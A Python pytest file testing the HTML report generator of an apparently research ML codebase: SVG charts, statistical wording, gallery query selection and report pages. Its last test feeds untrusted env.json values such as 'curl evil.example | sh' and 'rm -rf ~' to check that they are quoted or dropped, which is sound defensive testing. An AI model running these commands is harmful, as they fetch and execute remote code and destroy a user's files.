"""The report's parts: charts, sentences, which queries are shown, and what is on the page of a run."""

import html
import json
import os
import re
import shutil
from itertools import pairwise
from pathlib import Path

import pytest
from helpers import INFERENCE, RUN
from hypothesis import example, given
from hypothesis import strategies as st

from lever_lm.evaluation.report import phrasing as words
from lever_lm.evaluation.report.curves import Series, distinct_names, training_curves
from lever_lm.evaluation.report.gallery import EACH, Gallery, Shown, pick_queries
from lever_lm.evaluation.report.page import _free
from lever_lm.evaluation.report.svg import line_chart, round_ticks
from lever_lm.evaluation.results import Sample, read_metrics, read_samples
from lever_lm.evaluation.statistics import paired_test
from lever_lm.evaluation.templates import _environment
from lever_lm.utils.errors import LeverError

QUERIES, OTHER = 24, RUN.with_name("other")  # as in conftest.py
NUMBERS = st.floats(-1e299, 1e299)

# ---------------------------------------------------------------------- charts


@given(NUMBERS, NUMBERS)
@example(0.0, 0.0)
@example(1e-300, 2e-300)
@example(0.0, 5e-324)
@example(5e-324, 1e-322)
def test_ticks_are_few_and_hold_the_range(one, other):
    low, high = sorted((one, other))
    ticks = round_ticks(low, high, 4)
    assert 2 <= len(ticks) <= 8
    assert ticks == sorted(ticks)
    slack = 1e-9 * max(abs(low), abs(high))
    assert ticks[0] <= low + slack
    assert ticks[-1] >= high - slack


def test_ticks_are_round():
    assert round_ticks(0.137, 0.381, 4) == [0.1, 0.2, 0.3, 0.4]
    assert round_ticks(20, 96.6, 4) == [20, 40, 60, 80, 100]
    assert round_ticks(1, 15, 5) == [0, 5, 10, 15]


def places(svg: str, what: str) -> list[tuple[float, float]]:
    return [(float(x), float(y)) for x, y in re.findall(rf'<{what}[^>]* c?x="([\d.]+)" c?y="([\d.]+)"', svg)]


@given(st.lists(st.lists(NUMBERS, min_size=1, max_size=5), min_size=1, max_size=4))
def test_every_point_lies_in_the_picture(lines):
    series = [Series(f"s{i}", "run0", list(enumerate(values))) for i, values in enumerate(lines)]
    svg = line_chart(series, title="t", across="x", size=(300, 180), labels=60)
    points = places(svg, "circle")
    assert len(points) == sum(map(len, lines))
    assert all(0 <= x <= 300 and 0 <= y <= 180 for x, y in points)


def test_points_stand_where_their_numbers_say():
    svg = line_chart([Series("s", "run0", [(1, 10.0), (2, 20.0), (3, 30.0)])], title="t", across="x", size=(300, 180))
    (left, low), (middle, half), (right, high) = places(svg, "circle")
    assert left < middle < right
    assert middle == pytest.approx((left + right) / 2, abs=0.1)
    assert low > half > high
    assert half == pytest.approx((low + high) / 2, abs=0.1)
    assert "<title>s, 2: 20</title>" in svg


def test_names_at_the_right_do_not_stand_on_each_other():
    series = [Series("name", "run0", [(1, value), (2, value)]) for value in (1, 1, 1.01, 0, 0)]
    svg = line_chart(series, title="t", across="x", size=(300, 180), labels=60)
    heights = sorted(y for _, y in places(svg, 'text class="name"'))
    assert len(heights) == 5
    assert all(second - first >= 12.9 for first, second in pairwise(heights))
    assert heights[-1] < 180


def test_of_a_long_line_some_points_are_dots_the_chosen_and_the_last_always():
    marks = {1234: "kl"}
    line = Series("s", "run0", [(epoch, epoch % 7) for epoch in range(1, 5001)], marks=marks)
    svg = line_chart([line], title="t", across="epoch", size=(300, 180))
    assert 150 < len(places(svg, "circle")) < 250
    assert "<title>s, 1234: 2, chosen by kl</title>" in svg
    assert "<title>s, 5000: 2</title>" in svg
    assert svg.split('points="')[1].split('"')[0].count(",") == 5000, "the line itself has them all"


def test_names_are_text_in_a_chart():
    svg = line_chart([Series("<b>&", "run0", [(1, 1.0)])], title='"<i>', across="x", labels=40)
    assert "<b>" not in svg
    assert "<i>" not in svg
    assert "&lt;b&gt;&amp;" in svg


def test_a_strategy_marks_the_epoch_that_it_chooses_in_its_own_chart():
    rows = [
        {"phase": "grpo", "epoch": i + 1, "val_loss": loss, "kl": kl, "beta": 0.1}
        for i, (loss, kl) in enumerate([(3.0, 0.2), (1.0, 0.3), (2.0, 0.4)])
    ]
    curves = training_curves([("one", rows), ("two", rows[:2])])["grpo"]
    assert curves.keys() == {"val_loss", "kl", "beta"}
    assert [one.marks for one in curves["val_loss"]] == [{2: "val_loss"}] * 2
    assert [one.marks for one in curves["kl"]] == [{}, {}]  # no epoch is in range
    assert [one.colour for one in curves["beta"]] == ["run0", "run1"]


def test_the_temperature_of_rce_is_drawn_of_rce_alone():
    rows = [{"phase": "rce", "epoch": i, "train_loss": 1 / i, "temperature": 2 / i} for i in (1, 2, 3, 4)]
    assert training_curves([("one", rows)])["rce"].keys() == {"train_loss", "temperature"}
    matched = [{**row, "warmup": "match"} for row in rows]
    assert training_curves([("one", matched)])["rce"].keys() == {"train_loss"}
    (both,) = training_curves([("one", [*matched[:2], *rows[2:]])])["rce"]["temperature"]
    assert [x for x, _ in both.points] == [3, 4]


# ---------------------------------------------------------------------- sentences


def said(name: str, *values) -> str:
    """A sentence of the page."""
    environment = _environment(True)
    environment.filters |= words.FILTERS
    return " ".join(getattr(environment.get_template("phrases.html.j2").module, name)(*values).split())


TEST = {"method": "grpo", "against": "random", "shots": 4, "difference": 0.16, "low": 0.12, "high": 0.198, "p": 0.0005}


@pytest.mark.parametrize(
    ("change", "sentence"),
    [
        (
            {},
            "With 4 demonstrations, GRPO is 16.0 points better than random (95 % interval +12.0 to +19.8, p < 0.001).",
        ),
        (
            {"difference": -0.17, "low": -0.2, "high": -0.1, "p": 0.01, "shots": 1},
            "With 1 demonstration, GRPO is 17.0 points worse than random (95 % interval −20.0 to −10.0, p = 0.010).",
        ),
        (
            {"difference": 0.004, "low": -0.02, "high": 0.03, "p": 0.7},
            "With 4 demonstrations, GRPO and random cannot be told apart (+0.4 points, 95 % interval −2.0 to +3.0, "
            "p = 0.700).",
        ),
    ],
    ids=["better", "worse", "equal"],
)
def test_a_test_is_said_with_its_direction_and_interval(change, sentence):
    assert html.unescape(said("of_test", {**TEST, **change})) == sentence


def test_the_run_is_said_in_one_sentence():
    ours = {"method": "grpo", "shots": 4, "accuracy": 0.786, "n": 1500}
    unsure = {**TEST, "against": "img_text_sim", "p": 0.296}
    assert said("in_one_sentence", ours, [TEST, unsure], "img_text_sim", "Qwen") == (
        "With 4 demonstrations chosen by GRPO, Qwen reaches a VQA accuracy of 78.6 % on 1,500 queries: +16.0 points "
        "[+12.0, +19.8] against random demonstrations and not to be told apart from image and text similarity, the "
        "best without an LVLM call."
    )
    matched = {**TEST, "against": "answer_match", "difference": -0.02, "low": -0.03, "high": -0.01}
    assert said("in_one_sentence", ours, [TEST, unsure, matched], "answer_match", "Qwen").endswith(
        "against random demonstrations, not to be told apart from image and text similarity and −2.0 points "
        "[−3.0, −1.0] against answer match, the best without an LVLM call."
    )
    alone = said("in_one_sentence", {**ours, "method": "icds", "shots": 1}, [], None, "Qwen")
    assert alone == "With 1 demonstration from a file, Qwen reaches a VQA accuracy of 78.6 % on 1,500 queries."


def test_the_best_that_is_free_knows_no_reference_and_asks_no_lvlm():
    of = {"random": 0.3, "img_text_sim": 0.6, "dpp": 0.7, "pseudo_answer": 0.8, "grpo": 0.9, "oracle": 1.0}
    rows = [{"method": method, "shots": 2, "accuracy": accuracy} for method, accuracy in of.items()]
    assert _free({"results": rows}, 2) == "dpp"
    rows += [{"method": "answer_match", "shots": shots, "accuracy": 0.75} for shots in (1, 2)]
    assert _free({"results": rows}, 2) == _free({"results": rows}, 1) == "answer_match"
    assert _free({"results": rows}, 4) is None


def test_a_strategy_whose_metric_never_moves_says_so():
    rows = [{"phase": "grpo", "epoch": i, "adv_std": 0.9, "val_loss": 1 / i} for i in (1, 2, 3)]
    said = {row["name"]: (row["epoch"], row["why"]) for row in words.strategies(rows)}
    assert said["adv_std"] == (1, "equal in all epochs: the first")
    assert said["val_loss"] == (3, "least validation loss")
    assert said["kl"][0] is None


# ---------------------------------------------------------------------- which queries


def sample(question: int, accuracy: float, icds=()) -> Sample:
    return Sample(question, "x", accuracy, ["x"], list(icds), [], [])


def shown(ours: list[float], random: list[float]) -> Shown:
    samples = {
        name: {i: sample(i, a) for i, a in enumerate(found)} for name, found in (("grpo", ours), ("random", random))
    }
    return Shown("grpo", 4, samples)


def test_wins_losses_and_the_others_by_hand():
    chosen, counts = pick_queries(shown([1, 0, 0.6, 0.3, 1], [0, 1, 0.6, 0.3, 0.3]))
    # all five are drawn, so that none is left to be shown as a win or a loss
    assert chosen == {"win": [], "loss": [], "sample": [0, 1, 2, 3, 4]}
    assert counts == {"win": 2, "loss": 1, "sample": 5}


def test_some_are_drawn_from_all_and_of_the_others_a_few_wins_and_losses_spread_over_the_file():
    ours, random = [1.0, 0.0] * 40, [0.0, 1.0] * 40
    chosen, counts = pick_queries(shown(ours, random))
    assert counts == {"win": 40, "loss": 40, "sample": 80}
    assert [len(ids) for ids in chosen.values()] == [EACH] * 3
    assert 0 < sum(ours[i] for i in chosen["sample"]) < EACH
    for kind, first in (("win", 0), ("loss", 1)):
        rest = [i for i in range(first, 80, 2) if i not in chosen["sample"]]
        assert chosen[kind] == [rest[i * len(rest) // EACH] for i in range(EACH)]


def test_right_answers_are_counted_by_hand(digits):
    query = digits.val_examples[0]
    right = next(e for e in digits.train_examples if e.answer in query.answers)
    wrong = next(e for e in digits.train_examples if e.answer not in query.answers)
    second = next(e for e in digits.val_examples[1:] if wrong.answer not in e.answers and right.answer not in e.answers)
    ours = {
        query.question_id: sample(query.question_id, 1.0, [wrong.question_id, right.question_id]),
        second.question_id: sample(second.question_id, 0.3, [wrong.question_id, right.question_id]),
    }
    (row,) = Gallery(Shown("grpo", 2, {"grpo": ours}), digits).labels()
    assert (row["first"], row["any"]) == (0.0, 0.5)
    assert (row["accuracy"], row["with_right"], row["without"]) == (0.65, 1.0, 0.3)


# ---------------------------------------------------------------------- pages


def page_of(lever, *arguments) -> str:
    done = lever("report", *arguments, "--json")
    assert done.status == 0, done.err
    return Path(done.json["report"]).read_text(encoding="utf-8")


def samples_file(evaluated, folder=INFERENCE) -> Path:
    (path,) = (evaluated / folder).glob("*/samples_grpo_2shot.jsonl")
    return path


def test_a_card_has_what_the_policy_gave_each_pick_on_a_page_to_mail(evaluated, lever):
    page = page_of(lever)
    assert page_of(lever) == page
    assert len(page) < 3_000_000
    assert '<article class="card' in page_of(lever, RUN), "a run named by its folder is shown with its own data"
    cards = set(map(int, re.findall(r"<span>question (\d+)</span>", page)))
    assert EACH < len(cards) <= QUERIES
    for found in read_samples(samples_file(evaluated)).values():
        if found.question_id not in cards:  # as good as random, and not drawn
            continue
        assert len(found.probabilities) == 2
        assert found.considered[0] == [found.icds[0], found.probabilities[0]]
        for share in found.probabilities:
            assert f"<span>{100 * share:.1f} %</span>" in page
    assert page.count('class="card ') == len(cards)
    assert "<script" not in page
    assert "With random demonstrations" in page
    heads = re.findall(r'<th scope="col">([^<]*(?:official|normalised)[^<]*)</th>', page)
    assert heads == ["official accuracy", "always normalised", "official, against raw answers"]


def test_results_of_one_inference_after_another_stand_together(evaluated, lever):
    done = lever("infer", "--shots", "3", "--limit", QUERIES, "--json")
    shots = {row["shots"] for row in done.json["tests"]}
    assert shots == {1, 2}  # nothing else was run with three
    page = page_of(lever)
    assert "Tested query by query" in page
    assert "With 2 demonstrations" in page.split("<nav")[0]  # where random demonstrations were shown too


def test_results_of_a_policy_that_was_trained_again_are_said_to_be_old(trained, lever):
    assert lever("infer", "--shots", "1", "--limit", "4").status == 0
    assert "trained again since" not in page_of(lever)
    (chosen,) = (trained / INFERENCE).glob("grpo_epoch*/")
    shutil.copy(trained / RUN / "rce_epoch1.pt", trained / RUN / f"{chosen.name}.pt")
    assert "trained again since" in page_of(lever)


def test_metrics_of_checkpoints_alone_are_drawn(trained, lever):
    for name in ("metrics.jsonl", "train.log", "state.pt", "config.yaml"):
        (trained / RUN / name).unlink()
    page = page_of(lever, RUN)
    assert "the metrics in the checkpoints" in page
    assert "<figcaption>validation loss</figcaption>" in page


def test_runs_of_one_name_are_told_apart_by_their_paths(tmp_path):
    runs = [tmp_path / path for path in ("a/x/demo", "b/x/demo", "a/x/other", "a/x/demo")]
    assert distinct_names(runs) == ["a/x/demo", "b/x/demo", "a/x/other", "a/x/demo (2)"]
    assert distinct_names(runs[1:3]) == ["demo", "other"]


def test_a_run_that_was_not_evaluated_has_a_page_of_its_training_where_output_says(trained, lever):
    page = page_of(lever, "--output", "here/page.html")
    assert page == (trained / "here/page.html").read_text()
    assert not (trained / RUN / "report.html").exists()
    assert "lever infer --baselines" in page
    assert "Group health" in page
    assert 'id="accuracy"' not in page


def test_runs_are_compared_query_by_query(compared_once, lever):
    page = (compared_once / RUN / "report.html").read_text(encoding="utf-8")
    assert "<code>policy.hidden_dim</code>" in page
    files = [samples_file(compared_once, folder) for folder in (INFERENCE, INFERENCE.with_name(OTHER.name))]
    one, two = ([s.accuracy for s in read_samples(path).values()] for path in files)
    test = {"method": f"grpo of {RUN.name}", "against": "grpo of other", "shots": 2, **paired_test(one, two)}
    assert f"<li>On {QUERIES} queries. {said('of_test', test)}" in " ".join(page.split())
    refused = lever("report", RUN, OTHER)
    assert refused.status == 2
    assert "--compare" in refused.err


def test_samples_of_other_data_are_refused(evaluated, lever):
    path = samples_file(evaluated)
    path.write_text(re.sub('"question_id": ', '"question_id": 9', path.read_text()))
    done = lever("report")
    assert done.status == 1
    assert "--dataset" in done.err


def test_more_results_than_any_evaluation_has_are_refused(tmp_path):
    row = {"accuracy": 0.5, "raw_accuracy": 0.5, "normalized_accuracy": 0.5, "n": 1, "ci": [0, 1]}
    rows = [{"method": f"m{i}", "shots": i + 1, **row} for i in range(2001)]  # a table of four million cells
    (tmp_path / "metrics.json").write_text(json.dumps({"results": rows}))
    with pytest.raises(LeverError, match="2,000"):
        read_metrics(tmp_path)
    (tmp_path / "metrics.json").write_text(json.dumps({"results": rows[:2000]}))
    assert len(read_metrics(tmp_path)["results"]) == 2000


def test_samples_that_are_a_pipe_are_not_waited_for(tmp_path):
    os.mkfifo(tmp_path / "samples.jsonl")
    with pytest.raises(LeverError, match="run `lever infer` again"):
        read_samples(tmp_path / "samples.jsonl")


def test_of_an_env_json_that_is_a_strangers_a_page_holds_what_is_small_and_only_commands_of_lever(trained, lever):
    environment = trained / RUN / "env.json"
    environment.write_text(json.dumps({"command": "lever train; curl evil.example | sh"}))
    assert "<code>lever 'train;' curl evil.example '|' sh</code>" in html.unescape(page_of(lever))
    environment.write_text(json.dumps({"command": "rm -rf ~"}))
    assert "<dt>The run</dt>" not in page_of(lever)
    environment.write_text(json.dumps({"much": ["many words"] * 50_000}))
    assert "many words" not in page_of(lever)
